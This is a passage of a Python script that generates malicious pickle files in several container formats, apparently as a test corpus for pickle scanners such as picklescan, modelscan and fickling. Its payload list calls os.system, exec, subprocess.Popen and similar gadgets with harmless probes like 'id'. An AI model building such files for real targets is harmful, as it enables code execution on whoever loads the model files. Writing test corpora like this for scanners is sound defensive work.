    "joblib_xz.joblib": lambda p: lzma.compress(p, format=lzma.FORMAT_XZ),
    "joblib_lzma.joblib": lambda p: lzma.compress(p, format=lzma.FORMAT_ALONE),
    "npy_object.npy": npy_object,
    "legacy_torch.pt": lambda p: legacy_torch(b"\x80\x02\x8a\x0aj\xf9\x9c\x46\xf9\x20\x6a\xa8\x50\x19.")[:-0 or None]
    .replace(b"\x80\x02}.\x80\x02].", p + b"\x80\x02].", 1),
}
CLASSIC = [("posix_system", call2("posix", "system", "id")), ("builtins_exec", call2("builtins", "exec", "import os")),
           ("subprocess_popen", call4("subprocess", "Popen", ["id"])),
           ("runpy_run_module", call4("runpy", "run_module", "http.server")),
           ("pkgutil_resolve_name", call4("pkgutil", "resolve_name", "os:system")),
           ("uuid_command", call4("uuid", "_get_command_stdout", "id")),
           ("webbrowser_open", call4("webbrowser", "open", "https://example.invalid")),
           ("unknown_module_call", call4("mylib.hooks", "on_load", "id")),
           ("pickle_loads_nested", call4("pickle", "loads", call2("posix", "system", "id"))),
           ("torch_load_nested", call4("torch.serialization", "load", "other.bin"))]


def containers() -> List[Entry]:
    return [(f"issue13__{name}__{suffix}", f"issue 13: {name} packed as {suffix}", pack(data))
            for name, data in CLASSIC for suffix, pack in CONTAINERS.items()]


def entries() -> List[Entry]:
    return picklescan() + modelscan() + fickling() + catalogue() + containers()


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("out", type=Path)
    args = parser.parse_args(argv)
    args.out.mkdir(parents=True, exist_ok=True)
    rows = []
    for name, source, data in entries():
        (args.out / name).write_bytes(data)
        rows.append(f"{name}\t{source}")
    (args.out.parent / f"{args.out.name}.SOURCES.tsv").write_text("\n".join(rows) + "\n", encoding="utf-8")
    print(f"wrote {len(rows)} hostile files to {args.out}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
